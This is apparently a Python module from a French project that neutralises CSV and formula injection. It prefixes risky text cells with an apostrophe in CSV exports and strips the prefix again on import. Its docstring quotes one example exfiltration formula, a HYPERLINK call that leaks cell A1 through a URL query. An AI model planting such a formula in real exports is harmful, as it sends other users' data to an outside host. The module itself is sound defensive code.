"""Text that a spreadsheet would evaluate, made inert in exports and read back unchanged.

A text cell beginning with `=`, `+`, `-`, `@`, a tab or a carriage return (or blanks then one of
`=+-@`) is a formula to Excel or LibreOffice when the file is opened: a title or a payment
reference `=HYPERLINK("http://…?leak="&A1,"Voir")` planted by one user would run in every other
user's export. The rule (OWASP, « CSV injection »):

- CSV: `neutralise(text)` prefixes such a text with an apostrophe, which spreadsheets show as
  the start of a text and never evaluate;
- XLSX and ODS: the cell is written as a string (never a formula) and keeps its text;
  `typed_text(text)` only doubles an apostrophe that `restore` would otherwise take away;
- import: `restore(text)` takes the apostrophe away again (called by
  `cper.io.readers.cell_text`), so `restore(neutralise(t)) == t` and
  `restore(typed_text(t)) == t` for every text: an export reads back as it was.

Numbers are not text: amounts, rates and dates are written as numbers and dates, a negative
amount stays `-1234,56`; a text that is a plain number (`-500`, `+33 6 12`) is left as it is,
since a spreadsheet reads it as that number and nothing else.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

# What a spreadsheet evaluates at the start of a cell; and the same behind apostrophes (ours or
# the text's own), so that `restore` can tell an apostrophe of ours from one of the text's.
_START = r"(?:[=+\-@\t\r]|\s+[=+\-@])"
_FORMULA = re.compile(_START)
_QUOTED = re.compile("'*" + _START)
# A plain number, as text: a sign, digits with spaces or separators, no letter nor operator.
_NUMBER = re.compile(r"[+-]?\d[\d \u00a0\u202f]*(?:[.,]\d+)*")

QUOTE = "'"


def active(text: str) -> bool:
    """Whether a spreadsheet would evaluate `text` written as it is in a CSV cell."""
    return bool(_FORMULA.match(text)) and not _NUMBER.fullmatch(text)


def _escaped(text: str) -> bool:
    """Whether `neutralise` prefixes `text`: an active text, or one whose own leading
    apostrophes `restore` would otherwise take for ours."""
    return bool(_QUOTED.match(text)) and not _NUMBER.fullmatch(text)


# The first characters after which a text may need escaping (`_QUOTED`); any other text is
# left as it is without running the patterns (exports neutralise millions of cells).
_MAY_START = frozenset("'=+-@\t\r")


def neutralise(text: str) -> str:
    """`text` for a CSV cell: prefixed with an apostrophe if a spreadsheet would evaluate it."""
    if not text or (text[0] not in _MAY_START and not text[0].isspace()):
        return text
    return QUOTE + text if _escaped(text) else text


def typed_text(text: str) -> str:
    """`text` for a string cell of XLSX or ODS (which no spreadsheet evaluates): unchanged,
    unless it begins with an apostrophe that `restore` would take away."""
    return QUOTE + text if text.startswith(QUOTE) and _escaped(text) else text


def restore(text: str) -> str:
    """The text as it was before `neutralise` or `typed_text`."""
    return text[1:] if text.startswith(QUOTE) and _QUOTED.match(text) else text


class InertCsvWriter:
    """`csv.writer` whose text cells go through `neutralise`: for the CSV files written outside
    `cper.io.writers` (command outputs, the maquette's CSV pages, the open export)."""

    def __init__(self, stream: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(v) if isinstance(v, str) else v for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
